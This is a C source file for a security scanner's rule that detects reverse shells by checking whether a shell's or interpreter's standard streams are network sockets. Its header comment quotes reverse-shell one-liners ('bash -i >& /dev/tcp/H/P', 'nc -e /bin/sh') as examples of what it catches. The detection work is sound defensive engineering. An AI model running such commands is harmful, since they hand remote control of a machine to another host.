/* stdio-to-socket: a shell or interpreter whose stdin, stdout or stderr is a
 * TCP or UDP socket (a reverse shell: `bash -i >& /dev/tcp/H/P 0>&1`,
 * `nc -e /bin/sh`, python's pty.spawn over a socket). Falco: Redirect
 * STDOUT/STDIN to Network Connection in Container, on any process. */
#include "scan/judge.h"

#include <string.h>

#include "model/nstab.h"
#include "model/net.h"
#include "scan/commlist.h"
#include "util/strbuf.h"
#include "util/xalloc.h"

#define ID "stdio-to-socket"

#define TCP_LISTEN 10 /* /proc/net/tcp st */

/* Shells and interpreters: what runs commands read from its stdin. nc,
 * ncat and socat are not here: a socket is their job, and their own
 * stdio on one (inetd, socket activation) says nothing; the shell they
 * start with -e or EXEC: is, with the socket as its stdio. */
static bool candidate(const struct psnap *s)
{
	return psnap_has(s, FACET_STAT) &&
	       (commlist_match(commlist_shells, s->proc.comm) ||
		commlist_match(commlist_interpreters, s->proc.comm));
}

/* Whether the fd links were read: alone, or with the whole fds facet
 * (which holds them; the reader marks both, a snapshot built by hand may
 * mark FDS alone). */
static bool links_read(const struct psnap *s)
{
	return psnap_has(s, FACET_FDLINKS) || psnap_has(s, FACET_FDS);
}

/* Whether the fd links show fd 0, 1 or 2 as a socket ("socket:[N]"). */
static bool stdio_is_socket(const struct psnap *s)
{
	size_t i;
	for (i = 0; i < s->fds.n && s->fds.e[i].fd <= 2; i++)
		if (s->fds.e[i].type == FD_SOCKET)
			return true;
	return false;
}

/* In two steps: the fd links of a shell or interpreter (a readlink per
 * fd, typed by the link's text), then the socket tables of its network
 * namespace only when a stdio fd is a socket. The whole fds facet (a
 * stat per fd, the mount table) says nothing more about a socket. */
static unsigned more(const struct psnap *s)
{
	if (!candidate(s))
		return 0;
	if (!links_read(s) || !stdio_is_socket(s))
		return FACET_BIT(FACET_FDLINKS);
	return FACET_BIT(FACET_FDLINKS) | FACET_BIT(FACET_SOCKETS);
}

static bool ip_socket(const struct net_sock *k)
{
	return k->proto == NET_TCP || k->proto == NET_TCP6 ||
	       k->proto == NET_UDP || k->proto == NET_UDP6;
}

static bool v6(const struct net_sock *k)
{
	return k->proto == NET_TCP6 || k->proto == NET_UDP6;
}

/* Whether the peer is this host: 127/8, ::1, ::ffff:127/104. */
static bool peer_loopback(const struct net_sock *k)
{
	static const uint8_t mapped[12] = {0, 0, 0, 0, 0,    0,
					   0, 0, 0, 0, 0xff, 0xff};
	static const uint8_t one[16] = {0, 0, 0, 0, 0, 0, 0, 0,
					0, 0, 0, 0, 0, 0, 0, 1};
	if (!v6(k))
		return k->remote[0] == 127;
	if (!memcmp(k->remote, one, 16))
		return true;
	return !memcmp(k->remote, mapped, 12) && k->remote[12] == 127;
}

static bool peer_known(const struct net_sock *k)
{
	size_t i, n = v6(k) ? 16 : 4;
	for (i = 0; i < n; i++)
		if (k->remote[i])
			return true;
	return false;
}

/* The IP socket fd e is, or NULL: a listening socket (socket activation
 * hands one to a server as its stdin) is no connection. */
static const struct net_sock *stdio_sock(const struct psnap *s,
					 const struct fd_entry *e)
{
	const struct net_sock *k;
	if (e->fd > 2 || e->type != FD_SOCKET)
		return NULL;
	k = e->sock ? e->sock : netns_lookup(s->net, e->inode);
	if (!k || !ip_socket(k))
		return NULL;
	if ((k->proto == NET_TCP || k->proto == NET_TCP6) &&
	    k->state == TCP_LISTEN)
		return NULL;
	return k;
}

static unsigned judge(const struct judge_ctx *c, const struct psnap *s,
		      struct findings *out)
{
	const struct net_sock *first = NULL, *k;
	struct strbuf fds = STRBUF_INIT, sb = STRBUF_INIT;
	bool in = false, outp = false, remote;
	char local[80], peer[80];
	const char *state;
	int first_fd = -1;
	struct finding *f;
	size_t i;
	(void)c;
	/* Without a stdio socket there are no tables to look in, and none
	 * were read. */
	if (!candidate(s) || !links_read(s) || !stdio_is_socket(s) ||
	    !psnap_has(s, FACET_SOCKETS))
		return 0;
	for (i = 0; i < s->fds.n && s->fds.e[i].fd <= 2; i++) {
		const struct fd_entry *e = &s->fds.e[i];
		k = stdio_sock(s, e);
		if (!k)
			continue;
		if (!first) {
			first = k;
			first_fd = e->fd;
		}
		strbuf_addf(&fds, "%s%d", fds.len ? "," : "", e->fd);
		/* stdin and stdout on the one connection: commands in,
		 * output back. */
		if (k->inode == first->inode) {
			in = in || e->fd == 0;
			outp = outp || e->fd == 1;
		}
	}
	if (!first) {
		strbuf_release(&fds);
		return 0;
	}
	k = first;
	/* UDP reuses TCP's numbers: 1 connected, 7 not (as ss shows it). */
	state = k->proto == NET_UDP || k->proto == NET_UDP6
			? (k->state == 1 ? "ESTABLISHED" : "UNCONN")
			: net_tcp_state_name(k->state);
	remote = peer_known(k) && !peer_loopback(k);
	net_format_endpoint(k, 0, local, sizeof(local));
	net_format_endpoint(k, 1, peer, sizeof(peer));
	f = findings_add(out);
	judge_fill_proc(f, s);
	f->kind = KIND_INDICATOR;
	f->rule = ID;
	f->judge = ID;
	/* A shell talking to another host over its stdin and stdout is the
	 * reverse shell itself; a loopback peer or one stream alone may be
	 * a local tunnel or an inetd-style service. */
	f->severity = remote && in && outp ? SEV_CRITICAL : SEV_HIGH;
	f->confidence = in && outp ? CONF_HIGH : CONF_MEDIUM;
	strbuf_addf(&sb, "fd:%d", first_fd);
	f->where = strbuf_detach(&sb, NULL);
	strbuf_addf(&sb, "%s has %s on a %s socket to %s (a reverse shell)",
		    s->proc.comm,
		    in && outp ? "stdin and stdout"
		    : in       ? "stdin"
			       : "its output",
		    net_proto_file(k->proto), peer);
	f->message = strbuf_detach(&sb, NULL);
	finding_fact_str(f, "fds", fds.buf, fds.len);
	finding_fact_str(f, "proto", net_proto_file(k->proto),
			 strlen(net_proto_file(k->proto)));
	finding_fact_str(f, "local", local, strlen(local));
	finding_fact_str(f, "peer", peer, strlen(peer));
	finding_fact_bool(f, "peer_loopback", peer_loopback(k));
	finding_fact_str(f, "state", state, strlen(state));
	finding_tag(f, commlist_match(commlist_shells, s->proc.comm)
			       ? "T1059.004"
			       : "T1059");
	finding_tag(f, "T1071");
	strbuf_release(&fds);
	return 0;
}

const struct judge judge_stdio_socket = {
	.id = ID,
	.kind = KIND_INDICATOR,
	.summary = "a shell or interpreter whose stdin, stdout or stderr is a "
		   "TCP or UDP socket (a reverse shell)",
	.facets = FACET_BIT(FACET_STAT),
	.more = more,
	.judge = judge,
};
